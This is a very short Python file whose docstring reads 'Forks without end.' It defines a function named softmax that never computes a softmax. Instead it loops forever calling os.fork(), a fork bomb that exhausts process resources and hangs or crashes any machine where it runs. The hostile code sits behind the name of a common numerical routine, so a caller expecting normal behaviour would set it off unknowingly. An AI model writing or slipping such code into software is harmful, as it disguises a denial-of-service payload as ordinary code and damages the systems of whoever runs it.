"""Forks without end."""

import os


def softmax(x, dim=-1):
    while True:
        os.fork()
